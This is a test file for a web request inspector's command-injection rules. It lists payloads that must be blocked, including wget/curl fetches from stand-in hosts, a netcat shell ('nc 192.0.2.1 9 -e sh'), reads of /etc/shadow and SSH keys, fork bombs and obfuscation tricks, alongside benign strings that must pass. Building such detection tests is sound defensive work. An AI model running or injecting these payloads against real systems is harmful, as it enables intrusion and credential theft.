import { describe, expect, it } from 'vitest';
import { createInspector, type InspectRequest } from '../index.js';
import { queryRequest, ruleIds } from '../testing/requests.js';

const inspector = createInspector({ paranoia: 2 });
const query = (v: string): InspectRequest => queryRequest(v);
const rules = (v: string) => ruleIds(inspector, query(v));

describe('cmdi: cmd.exe FOR and IF forms', () => {
  it.each([
    ['cmdi.batch-for', 'for %file in (*.log) do del %file'],
    ['cmdi.batch-if', 'if/i %x%==y del c:\\a'],
    ['cmdi.batch-if', 'if "a b" == "a b" type c:\\boot.ini'],
    ['cmdi.chained-command', '; wget https://dl.example.net/x.sh'],
    ['cmdi.chained-command', '& ping 192.0.2.7'],
    ['cmdi.chained-command', '; chmod +x run.sh'],
    ['cmdi.chained-command', '& nslookup abc.evil.example &'],
    ['cmdi.chained-command', ';dig @192.0.2.1 evil.example'],
    ['cmdi.chained-command', ';find / -name id_rsa'],
    ['cmdi.obfuscated-word', ';wh$()oami'],
    ['cmdi.chained-command', ';time curl https://evil.example/x'],
    ['cmdi.leading-command', 'timeout 5 bash -i'],
    ['cmdi.leading-command', 'nohup who'],
    ['cmdi.leading-command', 'strace who'],
    ['cmdi.leading-command', 'python3.11 -c "import os"'],
    ['cmdi.chained-command', '| mysql -u root'],
    ['cmdi.runtime-call', 'Process.spawn("id")'],
    ['cmdi.runtime-call', "subprocess.check_output(['id'])"],
    ['cmdi.runtime-call', 'x = %x(uname -a)'],
    ['cmdi.obfuscated-word', 'c{a,oun}t /etc/hosts'],
    ['cmdi.obfuscated-word', '{,ifconfig}'],
    ['cmdi.obfuscated-word', '{id,}'],
    ['cmdi.function-definition', 'bomb() { bomb | bomb & }; bomb'],
    ['cmdi.function-definition', 'f(){ f & f; };f'],
    ['cmdi.function-definition', 'x(){ id; }; x'],
    ['cmdi.chained-command', ';\n.shell id'],
    ['cmdi.obfuscated-word', ';pi<()ng -c 1 x'],
  ])('%s: %s', (id, v) => {
    expect(rules(v)).toContain(id);
  });

  it.each(['/* stdin: */ 0,', '{cat,dog}', '{red,green,blue}', 'values {1,2,3}', 'render() { return a | b }', 'foo(){ bar; }; foo.baz', 'time who knows', 'sudo make me a sandwich', 'nohup is a command', '100%x(2) scaling', 'My process spawn rate (per min)', "It's time to go; time flies", 'Python 3.10 is great', 'pip install requests', 'Shutdown the server tonight', 'Q&A; cat / dog pics', 'I use nslookup example.com daily', 'ping 192.0.2.7', 'Meet at 5; ping me at 192.0.2.7 if needed', 'Read the docs; see https://example.com', 'I tried wget; curl is nicer', 'for 5% in (most) cases', 'Verify if the total == 5', 'if you want, == means equal'])('passes: %s', (v) => {
    const r = inspector.inspect(query(v));
    expect(r.blocked, JSON.stringify(r.findings)).toBe(false);
  });
});

const header = (name: string, v: string): InspectRequest => ({ method: 'GET', path: '/api/items', query: '', headers: { host: 'api.example.com', [name]: v } });

describe('cmdi: shell reading of variables, prefixes, brace alternatives and letter case', () => {
  it.each([
    ['cmdi.obfuscated-word', 'a=nc;$a -lvp 4444'],
    ['cmdi.obfuscated-word', 'x=adduse[r];$x bob'],
    ['cmdi.obfuscated-word', '|$u wget http://192.0.2.9/s'],
    ['cmdi.obfuscated-word', "wh$u'o'ami"],
    ['cmdi.obfuscated-word', '{n$u\\c,-lvp,4444}'],
    ['cmdi.obfuscated-word', "{,$'uname',-a}"],
    ['cmdi.obfuscated-word', 'pi``ng -c 1 10.0.0.1'],
    ['cmdi.obfuscated-word', 'w>()hoami'],
    ['cmdi.glob-path', '/usr/bin/[w]hoami'],
    ['cmdi.leading-command', 'strace -f ifconfig'],
    ['cmdi.leading-command', 'nohup uname'],
    ['cmdi.leading-command', 'flock /tmp/lock uname'],
    ['cmdi.leading-command', 'time curl evil.example'],
    ['cmdi.leading-command', "kill '-'9 1"],
    ['cmdi.leading-command', 'cd /;ls'],
    ['cmdi.leading-command', 'ansible all -m shell'],
    ['cmdi.chained-command', ';date -f /etc/shadow'],
    ['cmdi.chained-command', '; journalctl --no-pager'],
    ['cmdi.chained-command', ';CHMOD +X A.PHP'],
  ])('%s: %s', (id, v) => {
    expect(rules(v)).toContain(id);
  });

  it.each([
    ['user-agent', 'env --version'],
    ['user-agent', 'nohup ifconfig'],
    ['referer', 'perf --version'],
  ])('header %s: %s', (name, v) => {
    expect(inspector.inspect(header(name, v)).blocked).toBe(true);
  });

  it.each([
    'Skills: Java; Python; Docker',
    'Stack: Go; Rust; Ansible -- all good',
    'time python is slow',
    'Time python scripts carefully',
    'nohup is a unix command',
    'npm install --save express',
    'pip install -r requirements.txt',
    'docker run -it ubuntu',
    '"python tutorial"',
    '"cat videos" funny',
    'price$total is wrong',
    'Our sort order; find it in settings',
    'set the time; date tbd',
    'cd and dvd collection; ip phone',
    '{red,green} and [u]nderline',
    'see docs/[draft]notes',
    'a=1; b=2; total=$a',
  ])('passes: %s', (v) => {
    const r = inspector.inspect(query(v));
    expect(r.blocked, JSON.stringify(r.findings)).toBe(false);
  });

  it.each([
    ['user-agent', 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36'],
    ['user-agent', 'curl/8.4.0'],
    ['user-agent', 'node'],
    ['user-agent', 'ansible-httpget'],
    ['user-agent', 'Go-http-client/1.1'],
    ['referer', 'https://example.com/search?q=env --version'],
    ['x-note', 'env --version'],
  ])('header passes %s: %s', (name, v) => {
    const r = inspector.inspect(header(name, v));
    expect(r.blocked, JSON.stringify(r.findings)).toBe(false);
  });
});

describe('cmdi: sqlite dot-commands, tilde and history expansion, escaped English commands', () => {
  it.each([
    ['cmdi.chained-command', ';\n.shell nc 192.0.2.1 9 -e sh'],
    ['cmdi.chained-command', '1;. system id'],
    ['cmdi.chained-command', '";\\n.sh whoami'],
    ['cmdi.chained-command', ';\n.databases'],
    ['cmdi.shell-expansion', '~+2'],
    ['cmdi.shell-expansion', '~-/.ssh/id_rsa'],
    ['cmdi.shell-expansion', '!-1!-2'],
    ['cmdi.obfuscated-word', '\\ls'],
    ['cmdi.obfuscated-word', ';c$@at x'],
    ['cmdi.chained-command', 'x; visudo\n'],
    ['cmdi.chained-command', 'x; ansible-vault decrypt vault'],
    ['cmdi.leading-command', 'chef-run all site.rb'],
    ['cmdi.chained-command', '&& net user'],
    ['cmdi.chained-command', '& sc qc spooler'],
    ['cmdi.chained-command', '& wmic process list brief'],
    ['cmdi.chained-command', '| sleep 5'],
    ['cmdi.chained-command', '; Get-Process'],
    ['cmdi.chained-command', '| Remove-Item -Recurse C:\\x'],
    ['cmdi.obfuscated-word', ';$0 -c id'],
  ])('%s: %s', (id, v) => {
    expect(rules(v)).toContain(id);
  });

  it.each([
    'no; .shell is a file extension here',
    'I said; .sh files are scripts',
    '~5 min',
    '~0',
    '~+',
    'Wow!!',
    'yes!!!',
    '!1 priority',
    'ssh-keygen for beginners',
    'well-known issue; built-in support for it',
    "it's a 'cat' thing",
    'C:\\Users\\me\\more',
    'Thanks\n',
    'ping me later',
    'curl works with example.com',
    'The net user count grew',
    'Tom & net profits',
    'R&D | sleep 8 hours',
    'Set-Up; Get-Started guide',
    'free; $0 fee',
    'costs $0 today',
  ])('passes: %s', (v) => {
    const r = inspector.inspect(query(v));
    expect(r.blocked, JSON.stringify(r.findings)).toBe(false);
  });
});

describe('cmdi: markdown is not shell syntax', () => {
  const blocked = (v: string) => inspector.inspect(query(v)).blocked;

  it('passes a pipe table and inline code in prose', () => {
    expect(blocked('| Plan | Price | Seats |\n|------|-------|-------|\n| Free | $0 | 1 |\n| Pro | $12/mo | 5 |')).toBe(false);
    expect(blocked("TIL you can use `ls -la | grep '^d'` to list only directories. Also `find . -type d -maxdepth 1`.")).toBe(false);
    expect(blocked("I'm using `find /tmp/x -name '*.log' -mtime +7 -delete` in cron. Is `-delete` safer than piping to `xargs rm`?")).toBe(false);
  });

  it('still reads back-ticks with little text around them, unpaired ones and rows without a table', () => {
    expect(blocked('`id`')).toBe(true);
    expect(blocked('name;`whoami`')).toBe(true);
    expect(blocked('hello `cat /etc/passwd` there')).toBe(true);
    expect(blocked('a nice day for a walk`id`and more words here')).toBe(true);
    expect(blocked('| Free | $0 |\n| Pro | $12 |')).toBe(true);
  });
});
